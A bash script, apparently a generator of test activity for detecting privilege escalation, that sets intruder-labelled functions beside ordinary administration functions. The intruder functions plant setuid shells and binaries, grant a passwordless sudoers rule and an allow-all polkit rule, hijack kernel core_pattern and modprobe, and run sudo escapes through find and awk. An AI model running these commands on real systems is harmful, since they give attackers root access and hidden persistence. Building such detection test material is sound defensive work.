#!/bin/bash
# Privilege escalation: a user becomes root, or root prepares the way. Beside it, who may.

# The intruder, as root on the host, prepares the way back.

host_prepare() {
  mkdir -p -m 1777 /var/tmp
  cp /usr/bin/id /tmp/helper
  chmod 4755 /tmp/helper
  install -m 6755 /usr/bin/id /var/tmp/helper
  cp /usr/bin/bash /var/tmp/shell
  chmod u+s /var/tmp/shell
  cp /usr/bin/python3.11 /tmp/python
  setcap cap_setuid+ep /tmp/python
}

host_write_rules_of_power() {
  mkdir -p /etc/sudoers.d /etc/polkit-1/rules.d
  echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/www
  echo 'polkit.addRule(function() { return "yes"; });' > /etc/polkit-1/rules.d/10.rules
}

host_set_helpers_of_the_kernel() {
  echo '|/tmp/helper' > /proc/sys/kernel/core_pattern || true
  echo /tmp/helper > /proc/sys/kernel/modprobe || true
}

# The intruder, as a user.

host_ops_use_what_was_prepared() {
  /tmp/helper
  /var/tmp/shell -p -c 'id; true'
  /tmp/python -c 'import os; os.setuid(0); print(os.getuid())'
}

host_ops_leave_allowed_programs() {
  sudo -n find /srv -maxdepth 0 -exec /bin/sh -c 'id; true' \;
  sudo -n awk 'BEGIN { system("/bin/bash -c id") }'
}

host_ops_try_flaws() {
  sudoedit -s '\' AAAAAAAA || true
  sudo -n -R /tmp id || true
  cp /usr/bin/true /tmp/pkexec
  /tmp/pkexec
  LD_PRELOAD=/tmp/hook.so su --version || true
  python3 /opt/tactic.py || true
}

host_ops_make_namespaces() {
  unshare --user --map-root-user --mount true || true
}

host_ops_trace_others() {
  strace -o /tmp/trace -p 1 || true
}

internet_ask_the_server() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

# Ordinary work.

host_ops_administer() {
  sudo -n true
  sudo -n bash -c 'id; true'
  sudo -n find /srv -maxdepth 1
  cp /usr/bin/id mine
  chmod 755 mine
  chmod u+x,g-w mine
  ./mine
  cat /proc/sys/kernel/core_pattern
}

host_change_users() {
  su - ops -c 'id; true'
  setpriv --reuid 33 --regid 33 --clear-groups id
  getcap /usr/bin/ping || true
  visudo -c || true
}

host_separate() {
  unshare --mount true
}

host_ops_trace_own() {
  strace -o /tmp/own -e trace=openat cat notes.txt
}

host_install_package() {
  mkdir -p /tmp/stage/DEBIAN /tmp/stage/etc/sudoers.d /tmp/stage/srv/bin
  echo '# orders' > /tmp/stage/etc/sudoers.d/orders
  cp /usr/bin/true /tmp/stage/srv/bin/orders
  printf 'Package: orders\nVersion: 1.0\nArchitecture: all\nMaintainer: build <build@example.com>\nDescription: takes orders\n' > /tmp/stage/DEBIAN/control
  printf '#!/bin/sh\nset -e\nchmod 4755 /srv/bin/orders\nsetcap cap_net_raw+ep /srv/bin/orders\n' > /tmp/stage/DEBIAN/postinst
  chmod 755 /tmp/stage/DEBIAN/postinst
  dpkg-deb --build --root-owner-group /tmp/stage /tmp/orders.deb
  dpkg --install /tmp/orders.deb
}

host_cron_send() {
  python3 /opt/tactic.py send
}

"$1"
